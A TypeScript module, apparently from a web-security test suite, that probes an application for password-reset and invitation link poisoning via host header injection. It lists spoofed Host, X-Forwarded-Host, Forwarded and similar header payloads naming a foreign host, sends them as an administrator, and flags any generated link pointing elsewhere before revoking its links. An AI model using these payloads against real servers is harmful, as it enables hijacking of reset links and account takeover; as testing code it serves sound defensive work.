import type { Attack } from "../attack.ts";
import { Undecided } from "../errors.ts";
import type { Headers } from "../http/request.ts";
import { FOREIGN_HOST } from "../payloads/foreign-targets.ts";
import { act, administrator, type Form, openLinks, userIdIn } from "../people.ts";
import { ownHost, type Target } from "../target.ts";

/** The host as proxies and caches name it, or as a client claims that they did. */
const claims: readonly Headers[] = [
  { "X-Forwarded-Host": FOREIGN_HOST },
  { "X-Forwarded-Host": `${FOREIGN_HOST}, {own}` },
  { "X-Forwarded-Host": `{own}, ${FOREIGN_HOST}` },
  { "X-Forwarded-Host": FOREIGN_HOST, "X-Forwarded-Proto": "https" },
  { "X-Forwarded-Server": FOREIGN_HOST },
  { "X-Forwarded-Port": `443@${FOREIGN_HOST}` },
  { "X-Forwarded-Proto": `https://${FOREIGN_HOST}/?` },
  { Forwarded: `host=${FOREIGN_HOST};proto=https` },
  { Forwarded: `for=127.0.0.1;host="${FOREIGN_HOST}"` },
  { "X-Original-Host": FOREIGN_HOST },
  { "X-Original-URL": `https://${FOREIGN_HOST}/` },
  { "X-HTTP-Host-Override": FOREIGN_HOST },
  { "X-Host": FOREIGN_HOST },
  { Referer: `https://${FOREIGN_HOST}/account/people` },
];

/** Hosts that a server which knows its own address must not take. */
const hosts: readonly Headers[] = [
  { Host: FOREIGN_HOST },
  { Host: `${FOREIGN_HOST}:443` },
  { Host: `{own}.${FOREIGN_HOST}` },
  { Host: `{own}@${FOREIGN_HOST}` },
  { Host: `${FOREIGN_HOST}/{own}` },
  { Host: `${FOREIGN_HOST}#{own}` },
  { Host: ["{own}", FOREIGN_HOST] },
  { Host: FOREIGN_HOST, "X-Forwarded-Host": "{own}" },
  { Host: FOREIGN_HOST, Origin: `https://${FOREIGN_HOST}`, "Sec-Fetch-Site": "same-origin" },
];

/** Revokes the links that it has made. */
export const linkOrigin: Attack = {
  name: "link-origin",
  about: "invitations and links for a new password while the request names another host",
  meaning: "Who opens the link that you send gives the new password to another site.",
  noun: "links",
  verb: "led to another site",
  needs: ["account", "fresh"],

  async run(target, tally) {
    const admin = await administrator(target);
    const before = new Set(await openLinks(target, admin));
    const forms: readonly (readonly [string, Form])[] = [
      ["invite", { groups: "family" }],
      ["invite", { username: "visitor", groups: "family", guest: "1" }],
      ["reset", { user: userIdIn(admin.token) }],
    ];
    const post = (action: string, form: Form, headers?: Headers) =>
      act(target, admin.token, action, form, headers);
    for (const [action, form] of forms) {
      const origin = originFor(target, (await post(action, form)).body);
      if (origin === undefined) throw new Undecided(`an administrator gets no link from ${action}`);
      for (const headers of headersFor(target, origin)) {
        tally.tried();
        const response = await post(action, form, headers);
        const link = foreignLinkIn(`${response.location} ${response.body}`, origin);
        if (link === undefined) continue;
        tally.gotThrough(`${action} with ${shown(headers)} makes a link to ${link}`);
      }
    }
    for (const link of await openLinks(target, admin)) {
      if (!before.has(link)) await post("revoke", { link });
    }
  },
};

const ONE_TIME_LINK = /https?:\/\/[^\s"'<>]+\/link\//;

/** What links should begin with: at least what they do when the request names no other host. */
function originFor({ access }: Target, page: string): URL | undefined {
  const [link] = ONE_TIME_LINK.exec(page) ?? [];
  return link === undefined ? undefined : new URL(access?.publicUrl ?? link);
}

/**
 * A server that has no address of its own uses the one at which the administrator opened the page, so
 * a foreign `Host` proves nothing there.
 */
function headersFor(target: Target, { host }: URL): readonly Headers[] {
  const own = ownHost(target);
  const all = host === own ? claims : [...claims, ...hosts];
  const fill = (text: string): string => text.replace("{own}", own);
  return all.map((headers) =>
    Object.fromEntries(
      Object.entries(headers).map(([name, value]) => [
        name,
        typeof value === "string" ? fill(value) : value?.map(fill),
      ]),
    ),
  );
}

const LINKS = /\b[a-z][a-z\d+.-]*:[/\\]{2}[^\s"'<>]+|(?<=["'\s])\/\/[^\s"'<>]+/gi;

/** A link to another site, or a one-time link that begins with another host than it should. */
function foreignLinkIn(text: string, origin: URL): string | undefined {
  return (text.match(LINKS) ?? []).find((link) => {
    const parsed = URL.parse(link, origin);
    if (parsed?.host.includes(FOREIGN_HOST) === true) return true;
    // Not the scheme: a client may say that its own connection to the proxy is encrypted.
    const isOwn = parsed?.host === origin.host && parsed.username === "";
    return link.includes("/link/") && !isOwn;
  });
}

const shown = (headers: Headers): string =>
  Object.entries(headers)
    .map(([name, value]) => `${name}: ${[value].flat().join(" and ")}`)
    .join(", ");
